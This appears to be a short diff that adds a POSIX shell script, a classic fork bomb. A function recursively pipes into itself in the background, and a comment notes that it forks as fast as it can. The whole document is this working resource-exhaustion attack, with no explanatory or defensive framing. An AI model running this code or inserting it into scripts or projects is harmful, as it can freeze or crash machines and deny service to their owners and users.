@@ -1,0 +1,7 @@
+#!/bin/sh
+# Forks as fast as it can.
+bomb() {
+	bomb | bomb &
+	wait
+}
+bomb
